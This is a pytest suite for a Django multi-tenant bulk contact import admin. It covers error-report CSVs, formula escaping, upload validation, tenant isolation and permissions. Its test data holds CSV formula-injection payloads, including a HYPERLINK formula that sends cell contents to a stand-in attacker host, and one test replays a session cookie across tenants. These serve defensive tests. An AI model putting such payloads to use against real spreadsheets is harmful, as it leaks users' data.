"""The error report (CSV of rejected rows) and the bulk import admin on a tenant's admin site.

Requests go through Django's test Client to the tenant's own domain, so django-tenants' middleware
picks the schema as it does in production; files are real multipart uploads.
"""

from __future__ import annotations

import copy
import csv
import io
import re
import subprocess
import uuid
from collections.abc import Callable, Iterable
from datetime import timedelta
from pathlib import Path
from typing import Any

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.test import Client
from django.utils import timezone
from django_tenants.utils import schema_context

from bulk_import.admin import BulkImportAdmin
from bulk_import.error_report import escape_formula, write_error_report
from bulk_import.forms import BulkImportUploadForm
from bulk_import.importer import create_bulk_import
from bulk_import.models import BulkImport, BulkImportError, BulkImportNotification, ErrorType
from bulk_import.options import DATE_ORDERS, KNOWN_KEYS, MODES, UNMAPPED, UPDATE_FIELDS
from tests.conftest import run_command
from tests.test_bulk_import_command import wait_until_finished, write_contacts

MakeTenant = Callable[..., Any]
ImportFile = Callable[..., Any]

PASSWORD = "correct horse battery staple"
ADMIN = "/admin/bulk_import/bulkimport/"

# Headers whose JSONB key order (by length, then bytes) differs from the file's order.
INJECTION_CSV = (
    "Zip,Email,First Name,Notes,Alpha\n"
    '75001,=1+1,Ada,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",a\n'
    "75002,grace@example.com,Grace,ok,b\n"
    "75003,bad-email,@SUM(A1),+33 1 23 45 67 89,-c,EXTRA\n"
    "75004,grace@example.com,Grace Again,dup,d\n"
)
REPORT_HEADER = ["row_number", "error_type", "error_field", "error_message"]


def parse_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def report_of(record: BulkImport, schema_name: str) -> list[list[str]]:
    buffer = io.StringIO(newline="")
    with schema_context(schema_name):
        count = write_error_report(record, buffer)
    rows = parse_csv(buffer.getvalue())
    assert count == len(rows) - 1
    return rows


def web_tenant(make_tenant: MakeTenant) -> Any:
    """A tenant whose domain ``<schema_name>.localhost`` is a valid host name (no underscore)."""
    return make_tenant(f"adm{uuid.uuid4().hex[:12]}")


def log_in(tenant: Any, username: str = "admin", *, perms: Iterable[str] | None = None) -> Client:
    """A Client on ``tenant``'s domain, logged in through the admin's login form as a new staff
    user of that tenant: a superuser, or with only the bulk_import permissions ``perms``."""
    with schema_context(tenant.schema_name):
        user = get_user_model().objects.create_user(
            username, password=PASSWORD, is_staff=True, is_superuser=perms is None
        )
        for codename in perms or ():
            user.user_permissions.add(
                Permission.objects.get(content_type__app_label="bulk_import", codename=codename)
            )
    client = Client(HTTP_HOST=f"{tenant.schema_name}.localhost")
    response = client.post(
        "/admin/login/", {"username": username, "password": PASSWORD, "next": "/admin/"}
    )
    assert response.status_code == 302, response.content.decode()
    assert response["Location"] == "/admin/"
    return client


def upload_file(name: str, content: bytes) -> io.BytesIO:
    """A file for a multipart POST of the test Client, sent under ``name``."""
    upload = io.BytesIO(content)
    upload.name = name
    return upload


def pending_import(schema_name: str, name: str = "pending.csv") -> BulkImport:
    with schema_context(schema_name):
        return create_bulk_import(io.BytesIO(b"Email\nx@example.com\n"), name)


def test_escape_formula_follows_owasp() -> None:
    for dangerous in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]:
        assert escape_formula(dangerous) == f"'{dangerous}"
    for harmless in ["", "Ada", "a=b", " =1", "1-2", "'quoted"]:
        assert escape_formula(harmless) == harmless


def test_error_report_keeps_the_file_columns_in_order_and_escapes_formulas(
    tmp_path: Path, make_tenant: MakeTenant, import_file: ImportFile
) -> None:
    tenant = make_tenant()
    path = tmp_path / "leads.csv"
    path.write_text(INJECTION_CSV, encoding="utf-8")
    record = import_file(tenant, path)
    assert (record.created_count, record.skipped_count, record.error_count) == (1, 1, 2)

    rows = report_of(record, tenant.schema_name)

    assert rows[0] == [
        *REPORT_HEADER,
        "Zip",
        "Email",
        "First Name",
        "Notes",
        "Alpha",
        "[cell 6 beyond the header]",
    ]
    assert [row[:3] for row in rows[1:]] == [
        ["1", ErrorType.INVALID_EMAIL, "email"],
        ["3", ErrorType.MALFORMED_ROW, rows[2][2]],
        ["4", ErrorType.DUPLICATE_IN_FILE, "email"],
    ]
    assert rows[1][4:] == [
        "75001",
        "'=1+1",
        "Ada",
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "a",
        "",
    ]
    assert rows[2][4:] == ["75003", "bad-email", "'@SUM(A1)", "'+33 1 23 45 67 89", "'-c", "EXTRA"]
    assert rows[3][4:] == ["75004", "grace@example.com", "Grace Again", "dup", "d", ""]
    assert all(row[3] for row in rows[1:]), "every line has its error message"


def test_error_report_without_the_file_keeps_every_column(
    tmp_path: Path, make_tenant: MakeTenant, import_file: ImportFile
) -> None:
    tenant = make_tenant()
    path = tmp_path / "leads.csv"
    path.write_text(INJECTION_CSV, encoding="utf-8")
    record = import_file(tenant, path)
    with schema_context(tenant.schema_name):
        record.file.delete(save=False)

    rows = report_of(record, tenant.schema_name)

    header = rows[0]
    assert header[4:] == [
        "Alpha",
        "Email",
        "First Name",
        "Notes",
        "Zip",
        "[cell 6 beyond the header]",
    ]
    by_row = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert by_row["3"]["First Name"] == "'@SUM(A1)"
    assert by_row["3"]["[cell 6 beyond the header]"] == "EXTRA"
    assert by_row["4"]["Zip"] == "75004"


def test_error_report_of_a_workbook_keeps_its_column_order(
    tmp_path: Path, make_tenant: MakeTenant, import_file: ImportFile
) -> None:
    from openpyxl import Workbook

    tenant = make_tenant()
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Zip", "Email", "First Name"])
    sheet.append([75001, "@not an e-mail", "Ada"])
    sheet.append([75002, "grace@example.com", "Grace"])
    path = tmp_path / "people.xlsx"
    workbook.save(path)
    record = import_file(tenant, path)

    rows = report_of(record, tenant.schema_name)

    assert rows == [
        [*REPORT_HEADER, "Zip", "Email", "First Name"],
        ["1", ErrorType.INVALID_EMAIL, "email", rows[1][3], "75001", "'@not an e-mail", "Ada"],
    ]


def test_error_report_columns_do_not_clash_with_the_file_columns(
    tmp_path: Path, make_tenant: MakeTenant, import_file: ImportFile
) -> None:
    tenant = make_tenant()
    path = tmp_path / "export.csv"
    path.write_text("row_number,Email,error_type\n7,not-an-email,x\n", encoding="utf-8")
    record = import_file(tenant, path)

    rows = report_of(record, tenant.schema_name)

    assert rows[0] == [
        "_row_number",
        "_error_type",
        "error_field",
        "error_message",
        "row_number",
        "Email",
        "error_type",
    ]
    assert rows[1][:2] == ["1", ErrorType.INVALID_EMAIL]
    assert rows[1][4:] == ["7", "not-an-email", "x"]


def test_error_report_command_writes_the_file(
    tmp_path: Path, make_tenant: MakeTenant, import_file: ImportFile
) -> None:
    tenant = make_tenant()
    path = tmp_path / "leads.csv"
    path.write_text(INJECTION_CSV, encoding="utf-8")
    record = import_file(tenant, path)
    output = tmp_path / "errors.csv"

    result = run_command(
        "bulk_import_error_report", str(record.pk), tenant=tenant.schema_name, output=str(output)
    )

    assert result.exit_code == 0, result.stderr
    assert result.stdout == f"Wrote 3 rows of import {record.pk} (leads.csv) to {output}.\n"
    data = output.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM, so that Excel reads UTF-8
    assert parse_csv(data.decode("utf-8-sig")) == report_of(record, tenant.schema_name)

    to_stdout = run_command("bulk_import_error_report", str(record.pk), tenant=tenant.schema_name)
    assert to_stdout.exit_code == 0, to_stdout.stderr
    assert parse_csv(to_stdout.stdout) == report_of(record, tenant.schema_name)


def test_error_report_command_refuses_unknown_imports_and_tenants(make_tenant: MakeTenant) -> None:
    tenant = make_tenant()

    unknown = run_command("bulk_import_error_report", "999", tenant=tenant.schema_name)
    public = run_command("bulk_import_error_report", "1", tenant="public")
    no_tenant = run_command("bulk_import_error_report", "1", tenant="no_such_schema")

    assert unknown.exit_code == 1
    assert f"Tenant {tenant.schema_name} has no import 999" in unknown.stderr
    assert public.exit_code == 1
    assert "not the public one" in public.stderr
    assert no_tenant.exit_code == 1
    assert "No tenant has the schema 'no_such_schema'" in no_tenant.stderr


def test_upload_queues_an_import_that_the_celery_worker_runs(
    tmp_path: Path, make_tenant: MakeTenant, celery_worker_process: subprocess.Popen[bytes]
) -> None:
    tenant = web_tenant(make_tenant)
    client = log_in(tenant)
    form = client.get(f"{ADMIN}add/")
    assert form.status_code == 200
    assert b'enctype="multipart/form-data"' in form.content
    path = write_contacts(tmp_path / "crm export.csv")

    with path.open("rb") as upload:
        response = client.post(
            f"{ADMIN}add/",
            {
                "file": upload,
                "mode": "upsert",
                "update_fields": "all",
                "mapping": '{"Email": "email"}',
                "unmapped": "",
                "phone_region": "fr",
                "date_order": "dmy",
                "sheet": "",
                "encoding": "",
            },
        )

    assert response.status_code == 302, response.content.decode()
    with schema_context(tenant.schema_name):
        record = BulkImport.objects.get()
        assert response["Location"] == f"{ADMIN}{record.pk}/change/"
        assert record.options == {
            "mode": "upsert",
            "update_fields": "all",
            "mapping": {"Email": "email"},
            "phone_region": "FR",
            "date_order": "dmy",
        }
        assert record.created_by.username == "admin"
        assert record.file.name.startswith(f"bulk_imports/{tenant.schema_name}/")
        with record.file.open("rb") as stored:
            assert stored.read() == path.read_bytes()
        assert record.task_id  # enqueue_bulk_import ran
    record = wait_until_finished(tenant.schema_name, record.pk)
    assert record.status == BulkImport.Status.SUCCEEDED
    assert (record.total_rows, record.created_count, record.skipped_count) == (5, 2, 1)
    # The uploader is told: the notification is in their list and above their imports.
    notifications = client.get("/admin/bulk_import/bulkimportnotification/").content.decode()
    assert f"Import {record.pk} of crm export.csv succeeded" in notifications
    assert "1 unread notification" in client.get(ADMIN).content.decode()

    changelist = client.get(ADMIN).content.decode()
    assert "crm export.csv" in changelist
    assert '<progress value="5" max="5">100%</progress> 5/5 (100%)' in changelist
    detail = client.get(f"{ADMIN}{record.pk}/change/").content.decode()
    assert "3 rejected or skipped rows" in detail
    assert "not-an-email" in detail
    assert (  # the row's cells in the file's column order (JSONB keeps another order)
        "<strong>First Name</strong>: Ada; <strong>Last Name</strong>: Again; "
        "<strong>Email</strong>: ADA@example.com; <strong>Company</strong>: Analytical"
    ) in detail
    # The statistics inline: 4 of the 5 rows have an e-mail.
    assert re.search(
        r'field-field">\s*<p>email</p>\s*</td>\s*<td class="field-filled">\s*<p>4</p>', detail
    )
    assert f'href="{ADMIN}{record.pk}/error-report/"' in detail
    assert "Cancel import" not in detail  # finished
    assert 'http-equiv="refresh"' not in detail
    download = client.get(f"{ADMIN}{record.pk}/error-report/")
    assert download.status_code == 200
    assert download["Content-Type"] == "text/csv; charset=utf-8"
    assert download["Content-Disposition"] == (
        f'attachment; filename="crm export-errors-{record.pk}.csv"'
    )
    rows = parse_csv(b"".join(download.streaming_content).decode("utf-8-sig"))
    assert rows[0] == [*REPORT_HEADER, "First Name", "Last Name", "Email", "Company"]
    assert [row[0] for row in rows[1:]] == ["3", "4", "5"]
    assert rows[1][4:] == ["Bob", "", "not-an-email", ""]


def test_upload_form_reports_every_bad_option_and_queues_nothing(
    make_tenant: MakeTenant,
) -> None:
    tenant = web_tenant(make_tenant)
    client = log_in(tenant)

    response = client.post(
        f"{ADMIN}add/",
        {
            "file": upload_file("scan.pdf", b"%PDF-1.7"),
            "mode": "merge",
            "mapping": '{"Courriel": "nickname"}',
            "phone_region": "ZZ",
            "encoding": "no-such-codec",
        },
    )
    bad_json = client.post(f"{ADMIN}add/", {"mode": "upsert", "mapping": "{not json"})
    not_an_object = client.post(f"{ADMIN}add/", {"mode": "upsert", "mapping": '["email"]'})
    absent_column = client.post(
        f"{ADMIN}add/",
        {
            "file": upload_file("a.csv", b"Email,Name\n"),
            "mode": "upsert",
            "mapping": '{"Mail": ""}',
        },
    )
    unreadable = client.post(
        f"{ADMIN}add/", {"file": upload_file("a.xlsx", b"not a zip"), "mode": "upsert"}
    )
    update_fields_without_upsert = client.post(
        f"{ADMIN}add/", {"mode": "create_only", "update_fields": "all", "date_order": "ymd"}
    )
    csv_with_sheet = client.post(
        f"{ADMIN}add/",
        {"file": upload_file("a.csv", b"Email\n"), "mode": "upsert", "sheet": "Contacts"},
    )
    workbook_with_encoding = client.post(
        f"{ADMIN}add/",
        {"file": upload_file("a.xlsx", b"PK"), "mode": "upsert", "encoding": "cp1252"},
    )

    assert response.status_code == 200
    page = response.content.decode()
    assert "Unsupported file type" in page
    assert "Select a valid choice. merge is not one of the available choices." in page
    assert "Unknown field(s) nickname" in page
    assert "ZZ is not a region phonenumbers knows" in page
    assert "Unknown text encoding no-such-codec." in page
    assert "This field is required." in bad_json.content.decode()  # the file
    assert "Not valid JSON" in bad_json.content.decode()
    assert "Write a JSON object of header to field name" in not_an_object.content.decode()
    assert "A sheet name applies to workbooks only" in csv_with_sheet.content.decode()
    assert (
        "The file has no column &#x27;Mail&#x27;; its columns are &#x27;Email&#x27;, "
        "&#x27;Name&#x27;." in absent_column.content.decode()
    )
    assert "The file is not a readable XLSX workbook." in unreadable.content.decode()
    assert "This applies to the upsert mode only." in update_fields_without_upsert.content.decode()
    assert (
        "ymd is not one of the available choices" in update_fields_without_upsert.content.decode()
    )
    assert "An encoding applies to CSV files only." in workbook_with_encoding.content.decode()
    with schema_context(tenant.schema_name):
        assert not BulkImport.objects.exists()


def test_upload_form_refuses_a_file_over_the_size_limit_before_storing_it(
    make_tenant: MakeTenant, settings: Any
) -> None:
    settings.BULK_IMPORT_MAX_FILE_SIZE = 500
    tenant = web_tenant(make_tenant)
    client = log_in(tenant)
    media = Path(settings.MEDIA_ROOT)
    stored_before = set(media.rglob("*"))

    response = client.post(
        f"{ADMIN}add/",
        {"file": upload_file("big.csv", b"Email\n" + b"a@b.fr\n" * 100), "mode": "upsert"},
    )

    assert response.status_code == 200
    assert (
        "The file is 706 bytes, over the limit of 500 bytes (BULK_IMPORT_MAX_FILE_SIZE)."
        in response.content.decode()
    )
    assert set(media.rglob("*")) == stored_before
    with schema_context(tenant.schema_name):
        assert not BulkImport.objects.exists()


def test_upload_form_offers_exactly_the_importer_options() -> None:
    form_keys = set(BulkImportUploadForm.base_fields) - {"file"}

    assert form_keys == KNOWN_KEYS
    for name, values in [
        ("mode", MODES),
        ("update_fields", UPDATE_FIELDS),
        ("unmapped", UNMAPPED),
        ("date_order", DATE_ORDERS),
    ]:
        choices = BulkImportUploadForm.base_fields[name].choices  # type: ignore[attr-defined]
        assert [value for value, _label in choices if value] == list(values)


def test_a_tenant_admin_sees_and_downloads_only_its_own_imports(
    tmp_path: Path, make_tenant: MakeTenant, import_file: ImportFile
) -> None:
    tenant_a, tenant_b = web_tenant(make_tenant), web_tenant(make_tenant)
    secret = tmp_path / "b-secret.csv"
    secret.write_text("Email,First Name\nb-secret-address,Bea\n", encoding="utf-8")
    for _ in range(3):
        b_import = import_file(tenant_b, secret)
    mine = tmp_path / "a-contacts.csv"
    mine.write_text("Email,First Name\na-own-address,Ann\n", encoding="utf-8")
    a_import = import_file(tenant_a, mine)
    assert (a_import.pk, b_import.pk) == (1, 3)  # ids are per schema
    client_a = log_in(tenant_a)
    client_b = log_in(tenant_b)

    changelist = client_a.get(ADMIN).content.decode()
    b_detail = client_a.get(f"{ADMIN}3/change/")
    b_report = client_a.get(f"{ADMIN}3/error-report/")
    b_cancel = client_a.post(f"{ADMIN}3/cancel/")
    a_report = client_a.get(f"{ADMIN}1/error-report/")
    # A browser sends B's session cookie to A's domain only if the cookie is copied there.
    intruder = Client(HTTP_HOST=f"{tenant_a.schema_name}.localhost")
    intruder.cookies = copy.deepcopy(client_b.cookies)
    b_session_on_a = intruder.get(ADMIN)

    assert "a-contacts.csv" in changelist
    assert "b-secret" not in changelist
    assert b_detail.status_code == 302  # the admin's "does not exist" redirect
    assert b_detail["Location"] == "/admin/"
    assert b_report.status_code == 404
    assert b_cancel.status_code == 404
    report = b"".join(a_report.streaming_content).decode("utf-8-sig")
    assert "a-own-address" in report
    assert "b-secret" not in report
    # Users and sessions live in each tenant's schema: B's login means nothing on A's domain.
    assert b_session_on_a.status_code == 302
    assert b_session_on_a["Location"].startswith("/admin/login/")
    assert client_b.get(ADMIN).status_code == 200


def test_permissions_view_add_and_change(tmp_path: Path, make_tenant: MakeTenant) -> None:
    tenant = web_tenant(make_tenant)
    record = pending_import(tenant.schema_name)
    viewer = log_in(tenant, "viewer", perms=["view_bulkimport"])
    stranger = log_in(tenant, "stranger", perms=[])
    operator = log_in(tenant, "operator", perms=["view_bulkimport", "change_bulkimport"])
    detail = f"{ADMIN}{record.pk}/change/"

    assert viewer.get(ADMIN).status_code == 200
    assert "Import contacts" not in viewer.get(ADMIN).content.decode()
    assert viewer.get(f"{ADMIN}add/").status_code == 403
    assert viewer.post(f"{ADMIN}add/", {"mode": "upsert"}).status_code == 403
    assert "Cancel import" not in viewer.get(detail).content.decode()
    assert viewer.post(f"{ADMIN}{record.pk}/cancel/").status_code == 403
    assert viewer.post(detail, {"created_count": "999", "status": "failed"}).status_code == 403
    assert viewer.get(f"{ADMIN}{record.pk}/error-report/").status_code == 200
    assert stranger.get(ADMIN).status_code == 403
    assert stranger.get(f"{ADMIN}{record.pk}/error-report/").status_code == 403
    assert operator.get(f"{ADMIN}{record.pk}/cancel/").status_code == 405  # POST only
    operator_page = operator.get(detail).content.decode()
    assert "Cancel import" in operator_page
    assert '<meta http-equiv="refresh" content="10">' in operator_page  # pending: reloads
    # Even with the change permission the record is not editable.
    assert operator.post(detail, {"created_count": "999", "status": "failed"}).status_code == 403
    with schema_context(tenant.schema_name):
        record.refresh_from_db()
        assert (record.created_count, record.status, record.cancel_requested) == (
            0,
            BulkImport.Status.PENDING,
            False,
        )

    response = operator.post(f"{ADMIN}{record.pk}/cancel/", follow=True)

    assert "Asked import" in response.content.decode()
    with schema_context(tenant.schema_name):
        record.refresh_from_db()
        assert record.cancel_requested
        assert record.status == BulkImport.Status.PENDING  # the importer acts on the request


def test_cancel_action_flags_only_pending_and_running_imports(make_tenant: MakeTenant) -> None:
    tenant = web_tenant(make_tenant)
    pending = pending_import(tenant.schema_name, "a.csv")
    running = pending_import(tenant.schema_name, "b.csv")
    finished = pending_import(tenant.schema_name, "c.csv")
    with schema_context(tenant.schema_name):
        BulkImport.objects.filter(pk=running.pk).update(status=BulkImport.Status.RUNNING)
        BulkImport.objects.filter(pk=finished.pk).update(status=BulkImport.Status.SUCCEEDED)
    viewer = log_in(tenant, "viewer", perms=["view_bulkimport"])
    client = log_in(tenant)
    selection = {
        "action": "cancel_imports",
        "_selected_action": [pending.pk, running.pk, finished.pk],
    }

    assert "cancel_imports" not in viewer.get(ADMIN).content.decode()
    refused = viewer.post(ADMIN, selection)
    response = client.post(ADMIN, selection, follow=True)

    assert refused.status_code == 200  # the admin ignores an action the user may not run
    assert "Asked 2 imports to stop after their current batch." in response.content.decode()
    with schema_context(tenant.schema_name):
        flags = dict(BulkImport.objects.values_list("original_name", "cancel_requested"))
    assert flags == {"a.csv": True, "b.csv": True, "c.csv": False}


def test_detail_page_paginates_the_errors(make_tenant: MakeTenant) -> None:
    tenant = web_tenant(make_tenant)
    record = pending_import(tenant.schema_name)
    with schema_context(tenant.schema_name):
        BulkImportError.objects.bulk_create(
            BulkImportError(
                bulk_import=record,
                row_number=number,
                error_type=ErrorType.INVALID_EMAIL,
                field="email",
                message=f"problem #{number:03d}",
                raw_row={"Email": f"bad{number}"},
            )
            for number in range(1, 121)
        )
    client = log_in(tenant)

    first = client.get(f"{ADMIN}{record.pk}/change/").content.decode()
    last = client.get(f"{ADMIN}{record.pk}/change/?errors_page=3").content.decode()

    assert "120 rejected or skipped rows" in first
    assert "problem #001" in first
    assert "problem #050" in first
    assert "problem #051" not in first
    assert "Page 1 of 3" in first
    assert "problem #120" in last
    assert "problem #100" not in last


def test_progress_bar_shows_rate_and_time_left() -> None:
    progress = BulkImportAdmin.progress
    unknown_total = BulkImport(
        status=BulkImport.Status.RUNNING,
        processed_rows=4000,
        rows_per_second=1234.4,
        eta_seconds=125,
    )
    known_total = BulkImport(
        status=BulkImport.Status.RUNNING,
        total_rows=200,
        processed_rows=50,
        rows_per_second=10.0,
        eta_seconds=3725,
    )
    finished = BulkImport(status=BulkImport.Status.SUCCEEDED, total_rows=200, processed_rows=200)

    assert progress(None, unknown_total) == (  # type: ignore[arg-type]
        "<progress></progress> 4000 rows · 1,234 rows/s · 2 min 5 s left"
    )
    assert progress(None, known_total) == (  # type: ignore[arg-type]
        '<progress value="50" max="200">25%</progress> 50/200 (25%) · 10 rows/s · 1 h 2 min left'
    )
    assert progress(None, finished) == (  # type: ignore[arg-type]
        '<progress value="200" max="200">100%</progress> 200/200 (100%)'
    )


def test_notifications_of_the_logged_in_user_unread_first(make_tenant: MakeTenant) -> None:
    tenant = web_tenant(make_tenant)
    record = pending_import(tenant.schema_name, "leads.csv")
    alice = log_in(tenant, "alice")
    bob = log_in(tenant, "bob", perms=["view_bulkimport"])
    now = timezone.now()
    with schema_context(tenant.schema_name):
        users = {user.username: user for user in get_user_model().objects.all()}

        def notify(user: str, message: str, read: bool) -> int:
            return BulkImportNotification.objects.create(
                bulk_import=record,
                recipient=users[user],
                message=message,
                read_at=now if read else None,
            ).pk

        read_old = notify("alice", "old news, read", True)
        unread_older = notify("alice", "unread older", False)
        unread_newer = notify("alice", "unread newer", False)
        bobs = notify("bob", "for bob only", False)
        for pk, minutes in [(read_old, 30), (unread_older, 20), (unread_newer, 10), (bobs, 5)]:
            BulkImportNotification.objects.filter(pk=pk).update(
                created_at=now - timedelta(minutes=minutes)
            )
    notifications = "/admin/bulk_import/bulkimportnotification/"

    page = alice.get(notifications).content.decode()
    banner = alice.get(ADMIN).content.decode()
    bob.post(notifications, {"action": "mark_read", "_selected_action": [unread_newer]})
    with schema_context(tenant.schema_name):
        assert BulkImportNotification.objects.get(pk=unread_newer).read_at is None
    alice.post(
        notifications,
        {"action": "mark_read", "_selected_action": [read_old, unread_older, unread_newer, bobs]},
    )

    assert "for bob only" not in page
    assert page.index("unread newer") < page.index("unread older") < page.index("old news")
    assert "2 unread notifications" in banner
    assert "unread newer" in banner
    with schema_context(tenant.schema_name):
        read_at = dict(BulkImportNotification.objects.values_list("pk", "read_at"))
    assert read_at[read_old] == now  # already read: untouched
    assert read_at[unread_older] is not None
    assert read_at[unread_newer] is not None
    assert read_at[bobs] is None  # alice cannot act on bob's
    assert "2 unread" not in alice.get(ADMIN).content.decode()
